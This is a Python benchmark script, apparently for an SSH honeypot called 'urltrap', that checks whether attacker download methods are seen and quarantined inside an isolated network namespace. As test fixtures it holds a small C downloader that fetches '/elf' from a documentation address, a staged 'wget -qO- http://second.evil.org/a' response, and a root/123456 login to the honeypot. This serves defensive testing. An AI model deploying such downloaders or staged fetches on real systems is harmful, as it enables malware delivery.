"""How many ways of downloading are seen on the wire of a real box, and look successful in it.

`python bench/ways.py DATA [NAME...]` tries the ways of ``ways.toml`` (or those named) and prints one JSON line. DATA: a
data folder whose boxes' image is built (`urltrap image build --sandbox`); its image and persona are used. Root and gcc
are needed. Everything runs in a network namespace of its own without any link, where the kernel takes every address for
its own: a server of ours answers at all of them over HTTP, HTTPS, FTP and TFTP, and a name server knows every name.
`urltrap up` runs there as for an operator, with the fetcher fetching; the ways come through the SSH door.

A way counts as seen where its URL or destination is an event, as captured where the fetched file is in the quarantine,
as succeeding where the client has the payload or says what a success says.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
import tomllib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import asyncssh

from urltrap.journal import JournalReader
from urltrap.model.event import Captured, WireSeen
from urltrap.ops.init import init_data_folder
from urltrap.sandbox.uplink.authority import Authority
from urltrap.wire.internet import dns, ftp, tftp
from urltrap.wire.internet.http import Requests, response_head
from urltrap.wire.internet.names import Names

PORT = 22922
MARK = b"echo PAYLOAD-FOR-EVERYBODY\n"
PATIENCE = 90.0
LATE = 75.0
"""Seconds until what begins late is seen: cron takes a minute."""


@dataclass(frozen=True)
class Way:
    """One of ``ways.toml``, which says what the fields are."""

    name: str
    line: str
    url: str
    says: str = "PAYLOAD"
    file: bool = True
    stdin: str = ""
    program: bool = False


def ways() -> list[Way]:
    """Those of ``ways.toml``."""
    text = Path(__file__).with_suffix(".toml").read_text("utf-8")
    return [Way(**each) for each in tomllib.loads(text)["way"]]


_BOT = """
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(80)};
    char data[4096], *ask = "GET /elf HTTP/1.0\\r\\n\\r\\n";
    inet_pton(AF_INET, "203.0.113.80", &a.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (void *)&a, sizeof a)) return 1;
    write(s, ask, strlen(ask));
    for (long n; (n = read(s, data, sizeof data)) > 0;) write(1, data, n);
    return 0;
}
"""


def _body(path: bytes) -> tuple[int, list[tuple[bytes, bytes]], bytes]:
    if path.startswith(b"/redirect"):
        return 302, [(b"Location", b"/after")], b""
    if path == b"/stage":
        return 200, [], b"wget -qO- http://second.evil.org/a\n"
    return 200, [(b"Content-Type", b"text/x-sh")], MARK


async def _web(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    requests = Requests()
    with contextlib.suppress(OSError):
        while data := await reader.read(65_536):
            for request in requests.receive(data):
                status, headers, body = _body(request.target)
                writer.write(response_head(status, b"OK", headers, len(body), False) + body)
                await writer.drain()
                writer.close()
                return


async def _files(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    connected: asyncio.Queue[asyncio.StreamWriter] = asyncio.Queue()
    server = await asyncio.start_server(lambda _, data: connected.put_nowait(data), "0.0.0.0", 0)
    dialogue = ftp.Dialogue(
        writer.get_extra_info("sockname")[0], lambda: int(server.sockets[0].getsockname()[1])
    )
    writer.write(ftp.GREETING)
    with contextlib.suppress(OSError):
        while not dialogue.ended and (data := await reader.read(4096)):
            for each in dialogue.receive(data):
                if isinstance(each, bytes):
                    writer.write(each)
                elif each.verb == "RETR":
                    writer.write(ftp.sending(each.argument, len(MARK)))
                    stream = await connected.get()
                    stream.write(MARK)
                    stream.close()
                    writer.write(ftp.SENT)
                else:
                    writer.write(b"213 %d\r\n" % len(MARK) if each.verb == "SIZE" else ftp.MISSING)
    server.close()
    writer.close()


class _SmallFiles(asyncio.DatagramProtocol):
    def connection_made(self, transport: Any) -> None:
        self._transport = transport
        self._sending: dict[Any, tftp.Sending] = {}

    def datagram_received(self, data: bytes, address: Any) -> None:
        asked = tftp.request(data)
        if asked is not None:
            self._sending[address] = tftp.Sending(MARK, asked)
            self._transport.sendto(self._sending[address].begin(), address)
        elif address in self._sending and (answer := self._sending[address].receive(data)):
            self._transport.sendto(answer, address)


class _NameServer(asyncio.DatagramProtocol):
    def __init__(self) -> None:
        self._names = Names(b"outside")

    def connection_made(self, transport: Any) -> None:
        self._transport = transport

    def datagram_received(self, data: bytes, address: Any) -> None:
        self._transport.sendto(dns.answer(data, self._names, lambda _: True)[0], address)


@contextlib.asynccontextmanager
async def outside(keys: Path) -> Any:
    """The servers of the whole world."""
    loop = asyncio.get_running_loop()
    authority = Authority.of(keys)
    servers = [await asyncio.start_server(_web, "0.0.0.0", port) for port in (80, 8080, 3128)]
    servers.append(await asyncio.start_server(_web, "0.0.0.0", 443, ssl=authority.context("any.evil.org")))
    servers.append(await asyncio.start_server(_files, "0.0.0.0", 21))
    await loop.create_datagram_endpoint(_NameServer, ("127.0.0.1", 53))
    await loop.create_datagram_endpoint(_SmallFiles, ("0.0.0.0", 69))
    yield
    for server in servers:
        server.close()


class Record:
    """What the processes have journalled."""

    def __init__(self, data: Path) -> None:
        self._data = data

    def wire(self) -> set[str]:
        """All that was seen on the wire."""
        return {event.url.decode() for event in self._of("uplink") if isinstance(event, WireSeen)}

    def captured(self) -> set[str]:
        """URLs of which a body is in the quarantine."""
        return {
            event.capture.url
            for event in self._of("fetcher")
            if isinstance(event, Captured) and event.capture.sha256
        }

    def _of(self, writer: str) -> list[Any]:
        with JournalReader(self._data / "journal") as reader:
            return [event for _, event in reader.read(writer, limit=100_000)]


async def _connect() -> asyncssh.SSHClientConnection:
    deadline = time.monotonic() + PATIENCE
    while True:
        try:
            return await asyncssh.connect("127.0.0.1", PORT, username="root", password="123456", known_hosts=None,
                                          config=None, client_keys=None)  # fmt: skip
        except (OSError, asyncssh.Error):
            if time.monotonic() > deadline:
                raise
            await asyncio.sleep(0.2)


async def _try(way: Way, program: bytes) -> str:
    stdin = program if way.program else way.stdin.encode()
    async with await _connect() as connection:
        done = await asyncio.wait_for(connection.run(way.line, input=stdin, encoding=None), PATIENCE)
        return ((done.stdout or b"") + (done.stderr or b"")).decode("utf-8", "replace")


def _compiled() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        source, program = Path(folder, "bot.c"), Path(folder, "bot")
        source.write_text(_BOT)
        subprocess.run(["gcc", "-static", "-Os", "-w", "-o", program, source], check=True)
        return program.read_bytes()


async def _wait_for(done: Any, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while not done():
        if time.monotonic() > deadline:
            return False
        await asyncio.sleep(0.3)
    return True


async def measure(data: Path, wanted: list[Way], program: bytes) -> dict[str, Any]:
    """Try the ways through the SSH door of the system over `data`."""
    record, results = Record(data), {}
    async with outside(data / "keys"):
        for way in wanted:
            said = await _try(way, program)
            results[way.name] = {"succeeds": way.says in said, "said": said[-200:]}
        await _wait_for(lambda: all(way.url in record.wire() for way in wanted), LATE)
        await _wait_for(lambda: all(way.url in record.captured() for way in wanted if way.file), 5)
        wire, captured = record.wire(), record.captured()
    for way in wanted:
        results[way.name] |= {"seen": way.url in wire, "captured": not way.file or way.url in captured}
    kinds = ("seen", "succeeds", "captured")
    return {
        "bench": "ways", "ways": len(results), **{kind: sum(row[kind] for row in results.values()) for kind in kinds},
        "failed": {name: row for name, row in results.items() if not all(row[kind] for kind in kinds)},
    }  # fmt: skip


@contextlib.contextmanager
def running(data: Path) -> Iterator[None]:
    """`urltrap up` with boxes and one door."""
    environment = os.environ | {
        "URLTRAP_MACHINE__KIND": "sandbox", "URLTRAP_SENSORS__WORKERS": "1",
        "URLTRAP_SENSORS__SSH__LISTEN": f'["127.0.0.1:{PORT}"]', "URLTRAP_SENSORS__TELNET__ENABLED": "false",
        "URLTRAP_SITE__ENABLED": "false", "URLTRAP_BACKUP__ENABLED": "false", "URLTRAP_METRICS__ENABLED": "false",
        "URLTRAP_CANARY__ENABLED": "false", "URLTRAP_EGRESS__MODE": "fetch",
        "URLTRAP_TESTING__PUBLIC_NETWORKS": '["203.0.113.0/24"]',
    }  # fmt: skip
    command = [sys.executable, "-m", "urltrap.ops", "up", "--data", str(data)]
    with (data / "up.log").open("wb") as log:
        system = subprocess.Popen(command, env=environment, stdout=log, stderr=subprocess.STDOUT)
        try:
            yield
        finally:
            system.terminate()
            system.wait(30)


def _alone(data: Path) -> None:
    """In a namespace where every address is ours: names are asked at our own name server."""
    for words in ("link set lo up", "route add local 0.0.0.0/0 dev lo table local"):
        subprocess.run(["ip", *words.split()], check=True)
    resolv = data / "resolv.conf"
    resolv.write_text("nameserver 127.0.0.1\n")
    subprocess.run(["mount", "--bind", resolv, "/etc/resolv.conf"], check=True)


def main() -> None:
    """Go into namespaces of our own and measure there."""
    if os.environ.get("WAYS_ALONE") != "1":
        words = ["unshare", "--net", "--mount", sys.executable, *sys.argv]
        raise SystemExit(subprocess.run(words, env=os.environ | {"WAYS_ALONE": "1"}).returncode)
    source = Path(sys.argv[1])
    wanted = [way for way in ways() if len(sys.argv) < 3 or way.name in sys.argv[2:]]
    with tempfile.TemporaryDirectory(prefix="ways-") as folder:
        data = Path(folder, "data")
        init_data_folder(data)
        shutil.copy2(source / "persona.json", data / "persona.json")
        (data / "sandbox").mkdir()
        subprocess.run(["mount", "--bind", source / "sandbox", data / "sandbox"], check=True)
        _alone(data)
        try:
            with running(data):
                result = asyncio.run(measure(data, wanted, _compiled()))
            links = [
                line.split(":")[0].strip() for line in Path("/proc/net/dev").read_text().splitlines()[2:]
            ]
            print(json.dumps(result | {"links": links}))
        finally:
            subprocess.run(["umount", data / "sandbox"], check=True)


if __name__ == "__main__":
    main()
